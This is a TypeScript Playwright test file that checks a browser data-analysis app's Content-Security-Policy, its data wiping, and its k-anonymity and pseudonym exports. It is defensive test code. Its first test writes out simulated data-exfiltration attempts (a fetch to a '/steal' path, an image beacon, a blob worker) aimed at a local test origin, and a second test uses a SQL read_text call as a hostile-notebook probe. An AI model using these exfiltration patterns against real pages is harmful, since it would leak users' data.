import { createHmac } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { Download } from 'playwright-core';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { closeBrowser, cspViolations, finish, open, type Session } from './browser.ts';

let session: Session | undefined;
let allowed: string[] = [];
afterEach(async () => {
  await finish(session, allowed);
  session = undefined;
  allowed = [];
});
afterAll(closeBrowser);

/** Another origin on this machine (another port), serving a small CSV that other sites may read. */
let other: Server;
let otherBase = '';
/** Every request the other origin received. */
const hits: string[] = [];
beforeAll(async () => {
  other = createServer((request, response) => {
    hits.push(request.url ?? '');
    if (request.url?.startsWith('/orders.csv')) {
      response.writeHead(200, {
        'content-type': 'text/csv',
        'access-control-allow-origin': '*',
      });
      response.end(
        'customer_id,order_date,amount\nc1,2024-01-05,10\nc2,2024-01-06,20\nc1,2024-02-01,5\n',
      );
    } else {
      response.writeHead(404);
      response.end();
    }
  });
  await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
  otherBase = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((done) => other.close(() => done())));

const rowCountOf = (s: Session, table: string) =>
  s.page.getByRole('listitem').filter({ hasText: table }).getByTestId('row-count');

it('the page runs under a Content-Security-Policy that blocks every other origin', async () => {
  session = await open('./');
  const { page } = session;
  await page.getByRole('button', { name: 'From URL…' }).waitFor({ timeout: 30_000 });
  const policy = await page.evaluate(
    () =>
      document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')
        ?.content,
  );
  expect(policy).toContain("default-src 'self'");
  expect(policy).toContain("connect-src 'self';");
  expect(policy).toContain("'wasm-unsafe-eval'");

  // A script that tried to send data away (a fetch, an image beacon, a worker from a blob)
  // is stopped by the browser before any request leaves.
  const outcome = await page.evaluate(async (target) => {
    let fetched = 'sent';
    try {
      await fetch(`${target}/steal?x=1`, { mode: 'no-cors' });
    } catch {
      fetched = 'blocked';
    }
    const img = new Image();
    img.src = `${target}/pixel.gif?x=1`;
    // A blocked worker does not throw: it reports an error instead of running.
    const worker = await new Promise<string>((resolve) => {
      try {
        const w = new Worker(
          URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })),
        );
        w.onerror = () => resolve('blocked');
        w.onmessage = () => resolve('ran');
      } catch {
        resolve('blocked');
      }
      setTimeout(() => resolve('no answer'), 3000);
    });
    await new Promise((r) => setTimeout(r, 300));
    return { fetched, worker };
  }, otherBase);
  expect(outcome).toEqual({ fetched: 'blocked', worker: 'blocked' });
  const violations = await cspViolations(page);
  expect(violations.some((v) => v.startsWith('worker-src blocked blob'))).toBe(true);
  expect(violations).toContain(`connect-src blocked ${otherBase}/steal?x=1`);
  expect(violations).toContain(`img-src blocked ${otherBase}/pixel.gif?x=1`);
  // Nothing reached the other origin.
  expect(hits).toEqual([]);
  expect(session.foreign()).toEqual([]);
  // Those violations were the point of this test; clear them for the after-each check.
  await page.evaluate(() => {
    (window as unknown as { __cspViolations: string[] }).__cspViolations.length = 0;
  });
});

it('SQL cannot reach another origin either: DuckDB’s worker refuses it', async () => {
  session = await open('./?sample=telco');
  const { page } = session;
  await page.getByText('What does telco_churn hold?').waitFor({ timeout: 60_000 });
  await page.getByRole('link', { name: 'Notebook' }).click();
  await page.getByRole('button', { name: 'New notebook' }).first().click();
  const cell = page.getByTestId('cell').first();
  await cell.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+a');
  // What a hostile shared notebook could try: read (and so call) a URL of its choosing.
  await page.keyboard.type(`SELECT * FROM read_text('${otherBase}/orders.csv')`);
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect.poll(() => cell.getByRole('alert').textContent(), { timeout: 30_000 }).toMatch(/\S/);
  expect(hits).toEqual([]);
  // Its own tables still answer.
  await cell.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.type('SELECT count(*) AS n FROM telco_churn');
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect
    .poll(() => cell.getByTestId('result-summary').textContent(), { timeout: 30_000 })
    .toMatch(/^1 row/);
});

it('a data file on another origin loads when the user gives its address, and nothing else is contacted', async () => {
  const address = `${otherBase}/orders.csv`;
  session = await open(`./?data=${encodeURIComponent(address)}`);
  allowed = [address];
  await expect
    .poll(() => rowCountOf(session!, 'orders').textContent(), { timeout: 30_000 })
    .toBe('3');
  expect(session.foreign()).toEqual([address]);
  // The policy of that page allows exactly that origin for connections.
  const policy = await session.page.evaluate(
    () =>
      document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')
        ?.content,
  );
  expect(policy).toContain(`connect-src 'self' ${otherBase};`);
});

it('the web-address dialog opens another origin as a data link, and the file loads', async () => {
  session = await open('./');
  const { page } = session;
  const address = `${otherBase}/orders.csv`;
  allowed = [address];
  await page.getByRole('button', { name: 'From URL…' }).click({ timeout: 30_000 });
  await page.getByLabel(/Address of a CSV/).fill(address);
  await page.getByRole('button', { name: 'Load', exact: true }).click();
  await expect
    .poll(() => rowCountOf(session!, 'orders').textContent(), { timeout: 30_000 })
    .toBe('3');
  expect(session.foreign()).toEqual([address]);
  expect(page.url()).not.toContain('data=');
});

it('the privacy page says where the data lives; wiping everything leaves nothing, after a reload too', async () => {
  session = await open('./?sample=telco');
  const { page } = session;
  await page.getByRole('button', { name: 'Confirm mapping' }).click({ timeout: 60_000 });
  await page.getByRole('heading', { name: 'Retention overview' }).waitFor({ timeout: 60_000 });
  await page.getByRole('link', { name: 'Privacy' }).click();
  await page.getByRole('heading', { name: 'Privacy: where your data lives' }).waitFor();
  await expect.poll(() => page.getByTestId('stored-tables').textContent()).toMatch(/^1 table/);
  // The mapping made the "Customer overview" notebook.
  await expect.poll(() => page.getByTestId('stored-notebooks').textContent()).toBe('1 notebook');
  expect(await page.getByTestId('persistence').textContent()).toMatch(/^(No|Possibly)\./);
  await page.getByText('The policy in force').click();
  expect(await page.getByTestId('csp').textContent()).toContain("connect-src 'self';");

  await page.getByRole('button', { name: 'Wipe everything' }).click();
  const dialog = page.getByRole('dialog', { name: 'Wipe everything?' });
  await dialog.getByText('1 table, 1 notebook and 0 saved models will be deleted').waitFor();
  await dialog.getByRole('button', { name: 'Wipe everything' }).click();
  await expect
    .poll(() => page.getByTestId('wipe-report').textContent(), { timeout: 30_000 })
    .toMatch(/Checked: no table, notebook, saved model or setting of Retain remains/);
  expect(await page.getByTestId('stored-tables').textContent()).toMatch(/^0 tables/);
  expect(await page.getByTestId('stored-notebooks').textContent()).toBe('0 notebooks');
  expect(await page.getByTestId('stored-settings').textContent()).toBe('0 entries');

  // A reload finds nothing: no table, no notebook.
  await page.reload();
  await page.getByRole('heading', { name: 'Privacy: where your data lives' }).waitFor();
  await expect.poll(() => page.getByTestId('stored-notebooks').textContent()).toBe('0 notebooks');
  await page.getByRole('link', { name: 'Data', exact: true }).click();
  await page.getByRole('button', { name: 'From URL…' }).waitFor({ timeout: 30_000 });
  expect(await page.getByTestId('table-item').count()).toBe(0);
});

it('safe sharing: exports hide groups of fewer than k customers and carry pseudonyms for customer ids', async () => {
  session = await open('./?sample=telco', { acceptDownloads: true });
  const { page } = session;
  await page.getByText('What does telco_churn hold?').waitFor({ timeout: 60_000 });
  await page.getByRole('link', { name: 'Privacy' }).click();
  await page.getByLabel('Hide groups of fewer than').fill('5');
  await page.getByLabel('Hide groups of fewer than').press('Tab');
  await page.getByLabel('Replace customer ids by pseudonyms').check();
  const secret = await page.evaluate(
    () => JSON.parse(localStorage.getItem('retain.safeSharing') ?? '{}').secret as string,
  );
  expect(secret).toMatch(/^[0-9a-f]{64}$/);
  // The reference pseudonym: Node's own HMAC-SHA-256 of the id under that key.
  const pseudonym = (id: string) =>
    `c_${createHmac('sha256', Buffer.from(secret, 'hex')).update(id).digest('hex').slice(0, 16)}`;

  await page.getByRole('link', { name: 'Notebook' }).click();
  await page.getByRole('button', { name: 'New notebook' }).first().click();
  const cell = page.getByTestId('cell').first();
  const run = async (sql: string, rows: RegExp) => {
    await cell.locator('.cm-content').click();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type(sql);
    await page.keyboard.press('ControlOrMeta+Enter');
    await expect
      .poll(() => cell.getByTestId('result-summary').textContent(), { timeout: 60_000 })
      .toMatch(rows);
  };
  const downloads: Download[] = [];
  page.on('download', (d) => downloads.push(d));
  const exportCsv = async () => {
    downloads.length = 0;
    await cell.getByRole('button', { name: 'CSV' }).click();
    await expect.poll(() => downloads.length, { timeout: 30_000 }).toBe(2);
    const read = async (d: Download) =>
      Buffer.concat(await (await d.createReadStream()).toArray()).toString('utf8');
    const byName = Object.fromEntries(downloads.map((d) => [d.suggestedFilename(), d]));
    return {
      lines: (await read(byName['cell-1.csv']))
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n'),
      provenance: await read(byName['cell-1.provenance.txt']),
    };
  };

  // An aggregate: Telco's three contracts (1,473 / 1,695 / 3,875 customers) and a group of 2.
  await run(
    "SELECT Contract AS plan, count(*) AS customers FROM telco_churn GROUP BY 1\nUNION ALL SELECT 'Tiny', 2 ORDER BY 1",
    /^4 rows/,
  );
  const aggregate = await exportCsv();
  expect(aggregate.lines).toEqual([
    'plan,customers',
    'Month-to-month,3875',
    'One year,1473',
    'Two year,1695',
  ]);
  expect(aggregate.provenance).toMatch(
    /Safe sharing: Groups of fewer than 5 customers .* 1 left out/,
  );

  // A customer list: the ids leave as pseudonyms.
  await run(
    "SELECT customerID AS customer_id, tenure FROM telco_churn\nWHERE customerID IN ('7590-VHVEG', '5575-GNVDE') ORDER BY 1",
    /^2 rows/,
  );
  const list = await exportCsv();
  expect(list.lines).toEqual([
    'customer_id,tenure',
    `${pseudonym('5575-GNVDE')},34`,
    `${pseudonym('7590-VHVEG')},1`,
  ]);
  expect(list.provenance).toMatch(/Safe sharing: Customer ids \(customer_id\) are replaced/);
});
